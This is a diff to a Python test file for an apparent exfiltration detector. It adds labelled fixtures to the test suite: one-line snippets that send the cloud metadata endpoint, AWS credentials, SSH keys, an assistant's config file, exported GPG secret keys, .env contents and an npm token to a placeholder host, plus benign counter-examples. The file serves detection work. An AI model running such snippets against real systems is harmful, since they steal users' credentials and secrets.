@@ -47,6 +47,32 @@ PRIVATE = {
         "credentials",
     ),
     "metadata": ("requests.post('x', data=requests.get('http://169.254.169.254/latest').text)", "credentials"),
+    "metadata by a client": (
+        "import http.client\nc = http.client.HTTPConnection('169.254.169.254')\nrequests.post('x', data=c.getresponse().read())",
+        "credentials",
+    ),
+    "key by a path object": (
+        "from pathlib import Path\nrequests.post('x', data=(Path.home() / '.aws' / 'credentials').read_bytes())",
+        "credentials",
+    ),
+    "key of a folder": (
+        "import glob\nfor one in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post('x', data=open(one).read())",
+        "credentials",
+    ),
+    "key of an assistant": (
+        "requests.post('x', data=open(os.path.expanduser('~/.claude.json')).read())",
+        "credentials",
+    ),
+    "told by a tool": (
+        "import subprocess\nrequests.post('x', data=subprocess.check_output(['gpg', '-a', '--export-secret-keys']))",
+        "credentials",
+    ),
+    "settings": ("requests.post('x', data=open('.env').read())", "environment"),
+    "settings of a library": (
+        "from dotenv import dotenv_values\nrequests.post('x', json=dotenv_values())",
+        "environment",
+    ),
+    "key of a service": ("requests.post('x', json={'a': os.environ['NPM_TOKEN']})", "token of npm"),
     "saved": ("open('t', 'w').write(os.popen('id').read())\nrequests.post('x', files={'f': open('t', 'rb')})", "host"),
     "clipboard": ("import pyperclip\nrequests.post('x', data=pyperclip.paste())", "watched"),
     "screen": ("from PIL import ImageGrab\nrequests.post('x', data=ImageGrab.grab().tobytes())", "watched"),
@@ -63,6 +89,8 @@ PLAIN = {
     "token": "requests.post('x', headers={'a': os.environ['SAMPLE_TOKEN']})",
     "hash": "import hashlib, socket\nrequests.post('x', data=hashlib.sha256(socket.gethostname().encode()).hexdigest())",
     "answer": "import socket\nr = requests.get('x' + socket.gethostname())\nrequests.post('x', data=r.text)",
+    "setting": "from dotenv import dotenv_values\nrequests.post('x', headers={'a': dotenv_values()['SAMPLE_TOKEN']})",
+    "example of settings": "requests.post('x', data=open('.env.example').read())",
     "exists": "requests.post('x', data=str(os.path.exists('/etc/passwd')))",
 }
 
@@ -70,6 +98,11 @@ PLAIN = {
 @pytest.mark.parametrize("name", sorted(PLAIN))
 def test_other_data_is_not(name: str) -> None:
     assert not sent(PLAIN[name]) & {"host", "environment", "credentials", "watched"}
+
+
+def test_what_a_service_gives_is_not_the_key_to_it() -> None:
+    source = "from openai import OpenAI\nc = OpenAI(api_key=os.environ['OPENAI_API_KEY'])\nrequests.post('x', data=c.ask('y').text)"
+    assert not {label for label in sent(source) if label.startswith("token of")}
 
 
 SHAPES = {
